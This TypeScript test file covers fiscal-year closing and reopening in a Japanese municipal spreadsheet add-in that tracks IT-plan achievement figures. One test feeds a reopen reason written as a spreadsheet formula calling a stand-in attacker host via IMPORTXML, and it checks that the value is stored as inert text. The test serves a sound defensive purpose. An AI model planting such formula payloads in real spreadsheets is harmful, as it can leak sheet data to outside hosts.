/** 年度確定 in the core, on the demo plan: what closing writes, what it locks, what it refuses, and reopening. */
import { calendarDate } from '../../src/core/calendar';
import { rollupWorkbook, setupDepartmentTabs } from '../../src/core/jobs';
import { readYearClose } from '../../src/core/layout/year-close';
import { sheetEditors } from '../../src/core/roles';
import { deptForm, saveForm } from '../../src/core/sidebar/service';
import { closeYear, reopenYear } from '../../src/core/year-lock';
import { a1, type CellRange } from '../../src/core/workbook';
import { demoBook } from '../support/plans';
import type { MemoryWorkbook } from '../support/memory-workbook';

const KIKAKU = { now: calendarDate(2021, 5, 31, 17, 0, 0), user: 'kikaku@city.example.lg.jp' };
const LATER = { now: calendarDate(2021, 7, 1, 9, 0, 0), user: 'kikaku2@city.example.lg.jp' };

const inRanges = (ranges: CellRange[] | undefined, row: number, col: number) =>
  (ranges ?? []).some((r) => row >= r.row && row < r.row + r.numRows && col >= r.col && col < r.col + r.numCols);

/** (row, col) of a tab's entry cell for an indicator and header. */
function cellOf(book: MemoryWorkbook, tab: string, indicator: string, header: string) {
  return { row: book.find(tab, indicator).row, col: book.find(tab, header).col };
}

test('closing writes the snapshot, the record and the log, and locks that year only', () => {
  const book = demoBook();
  const result = closeYear(book, 2020, KIKAKU);
  expect(result).toMatchObject({ fiscalYear: 2020, snapshot: '達成状況_2020年度' });
  expect(result.tabs).toEqual(expect.arrayContaining(['情報政策室', '税制課', '広報課']));

  const snapshot = book.outputs.get('達成状況_2020年度')!;
  expect(snapshot).toMatchObject({ readOnly: true, editors: { sheet: [] } });
  expect(String(snapshot.values[0][0])).toBe('吹田市第4期 情報化推進計画 達成状況 2020年度 確定版（2021/05/31 17:00:00 kikaku@city.example.lg.jp が確定。編集できません）');
  // The same rows the rollup gives for 2020, and no other year.
  const rolled = rollupWorkbook(demoBook()).analysis.rows.filter((r) => r.fiscalYear === 2020);
  const header = snapshot.values.findIndex((r) => r[0] === 'No.');
  const rows = snapshot.values.slice(header + 1, header + 1 + rolled.length);
  expect(rows.map((r) => [r[4], r[6], r[11]])).toEqual(rolled.map((r) => [r.indicator, '2020年度', r.grade]));
  expect(snapshot.values[header + 1 + rolled.length]).toEqual([]);

  expect(readYearClose(book.readSheet('年度確定')).records).toEqual([
    { fy: 2020, act: '確定', at: '2021/05/31 17:00:00', by: 'kikaku@city.example.lg.jp', reason: '', snapshot: '達成状況_2020年度' },
  ]);
  expect(book.changeLog.at(-1)).toEqual(['2021/05/31 17:00:00', 'kikaku@city.example.lg.jp', '年度確定', '', '', '2020年度を確定（控え: 達成状況_2020年度）', '年度確定']);

  const tab = book.outputs.get('広報課')!;
  const closed = cellOf(book, '広報課', '閲覧者数', '2020年度 実績');
  const comment = cellOf(book, '広報課', '閲覧者数', '2020年度 コメント');
  const open = cellOf(book, '広報課', '閲覧者数', '2021年度 実績');
  expect(inRanges(tab.editableRanges, closed.row, closed.col)).toBe(false);
  expect(inRanges(tab.editableRanges, comment.row, comment.col)).toBe(false);
  expect(inRanges(tab.editableRanges, open.row, open.col)).toBe(true);
  expect(tab.helpTexts!.some((h) => h.range.col === closed.col)).toBe(false);
  // Entries stay as they were: closing locks, it never changes a figure.
  expect(book.cell('広報課', closed.row, closed.col)).toBe('閲覧者数 349,879人');
});

test('the sidebar shows a closed year read-only and refuses to save or submit it', () => {
  const book = demoBook();
  expect(deptForm(book, '広報課').closed).toBe(false);
  closeYear(book, 2020, KIKAKU);
  const form = deptForm(book, '広報課');
  expect(form.closed).toBe(true);
  const row = form.rows[0];
  const writes = book.textWrites.length;
  for (const submit of [false, true])
    expect(() => saveForm(book, { dept: '広報課', fiscalYear: 2020, submit, changes: submit ? [] : [{ no: row.no, name: row.name, field: 'actual', before: row.actual.text, after: '1人' }] }, KIKAKU))
      .toThrow('2020年度は確定済みのため、保存も提出もできません。直す必要があれば、調整担当者に「年度確定の解除」を頼んでください');
  expect(book.textWrites.length).toBe(writes);
});

test('setup keeps a closed year locked, and gives each tab its editors from 設定', () => {
  const book = demoBook();
  closeYear(book, 2019, KIKAKU);
  setupDepartmentTabs(book, [], KIKAKU);
  const tab = book.outputs.get('税制課')!;
  const closed = cellOf(book, '税制課', '課税証明', '2019年度 実績');
  expect(inRanges(tab.editableRanges, closed.row, closed.col)).toBe(false);
  expect(tab.editors).toEqual({ sheet: [], entries: [] });
  // The add-in's other sheets get the coordinators (none in the demo's 設定); this memory book keeps 変更履歴 apart.
  expect([...book.protections.keys()].sort()).toEqual(['年度確定', '計画マスタ', '設定']);
  expect(book.protections.get('設定')).toEqual({ sheet: [] });
});

test('refusals: twice, outside the plan, an unreadable entry of that year — and nothing is written', () => {
  const book = demoBook();
  expect(() => closeYear(book, 2030, KIKAKU)).toThrow('年度確定: 2030年度は計画期間（2019年度〜2023年度）の年度ではありません');
  const at = cellOf(book, '広報課', '閲覧者数', '2021年度 実績');
  book.type('広報課', at.row, at.col, 'たくさん');
  const writes = book.writes;
  expect(() => closeYear(book, 2021, KIKAKU)).toThrow(new RegExp(`2021年度を確定できません。読めない実績・予定が1件あります。直してから確定してください:\\n・広報課!${a1(at.row, at.col)} No\\.5 閲覧者数（入力エラー）`));
  expect(book.writes).toBe(writes);
  expect(book.sheetNames().some((n) => n.startsWith('達成状況_'))).toBe(false);
  closeYear(book, 2020, KIKAKU);
  expect(() => closeYear(book, 2020, KIKAKU)).toThrow('2020年度はすでに確定しています。「年度確定」シートを見てください');
  expect(() => reopenYear(book, 2022, '理由', KIKAKU)).toThrow('2022年度は確定されていません');
});

test('reopening needs a reason, is recorded and logged, unlocks the year; closing again keeps the first snapshot', () => {
  const book = demoBook();
  closeYear(book, 2020, KIKAKU);
  const first = book.readSheet('達成状況_2020年度')!.values;
  for (const blank of ['', '  \n '])
    expect(() => reopenYear(book, 2020, blank, LATER)).toThrow('2020年度の確定を解除する理由を入力してください（変更履歴に残ります）');
  const result = reopenYear(book, 2020, ' 閲覧者数の集計誤り ', LATER);
  expect(result.message).toBe('2020年度の確定を解除しました。各部門が2020年度の実績を直せます（確定時の控えはそのまま残ります）。');
  expect(readYearClose(book.readSheet('年度確定')).records.map((r) => [r.fy, r.act, r.by, r.reason])).toEqual([
    [2020, '確定', 'kikaku@city.example.lg.jp', ''],
    [2020, '解除', 'kikaku2@city.example.lg.jp', '閲覧者数の集計誤り'],
  ]);
  expect(book.changeLog.at(-1)).toEqual(['2021/07/01 09:00:00', 'kikaku2@city.example.lg.jp', '年度確定', '', '2020年度は確定済み', '2020年度の確定を解除（理由: 閲覧者数の集計誤り）', '年度確定の解除']);
  const at = cellOf(book, '広報課', '閲覧者数', '2020年度 実績');
  expect(inRanges(book.outputs.get('広報課')!.editableRanges, at.row, at.col)).toBe(true);
  expect(deptForm(book, '広報課').closed).toBe(false);

  expect(closeYear(book, 2020, LATER).snapshot).toBe('達成状況_2020年度_2');
  expect(book.readSheet('達成状況_2020年度')!.values).toEqual(first);
  expect(readYearClose(book.readSheet('年度確定')).records).toHaveLength(3);
});

test('a reason typed as a formula is kept as text on 年度確定', () => {
  const book = demoBook();
  closeYear(book, 2020, KIKAKU);
  reopenYear(book, 2020, '=IMPORTXML("http://evil.example/","//a")', KIKAKU);
  const out = book.outputs.get('年度確定')!;
  expect(out.values.at(-1)![4]).toBe('=IMPORTXML("http://evil.example/","//a")');
  expect(out.numberFormats).toEqual([{ range: { row: 3, col: 1, numRows: 2, numCols: 6 }, format: '@' }]);
  expect(out.editors).toEqual(sheetEditors.coordinators({ coordinators: [] } as never));
});

test('a broken 年度確定 sheet is a located finding, not a crash', () => {
  const book = demoBook();
  closeYear(book, 2020, KIKAKU);
  book.type('年度確定', 3, 2, '確定？');
  const form = deptForm(book, '広報課');
  const row = form.rows[0];
  // Unreadable records could hide a closed year: saves and setup stop instead of guessing.
  expect(() => saveForm(book, { dept: '広報課', fiscalYear: 2020, submit: false, changes: [{ no: row.no, name: row.name, field: 'actual', before: row.actual.text, after: '1人' }] }, KIKAKU))
    .toThrow('「年度確定」シートを読めないため、確定した年度かどうかわからず保存できません（A3: 3行目を読めません');
  expect(() => setupDepartmentTabs(book, [], KIKAKU)).toThrow(/部門シートを作成できません。次を直してください:\n・年度確定!A3: 3行目を読めません/);
  const findings = rollupWorkbook(book).analysis.findings.filter((f) => f.sheet === '年度確定');
  expect(findings).toEqual([expect.objectContaining({ severity: 'error', cell: 'A3', message: '3行目を読めません（年度「2020年度」、操作「確定？」）。確定・解除はメニューから行ってください' })]);
  book.setSheet('年度確定', [['見出しのない表']]);
  expect(rollupWorkbook(book).analysis.findings).toContainEqual(expect.objectContaining({ sheet: '年度確定', cell: 'A1', message: expect.stringContaining('見出し（年度・操作・日時・実行者・理由・控えシート）が見つかりません') }));
});
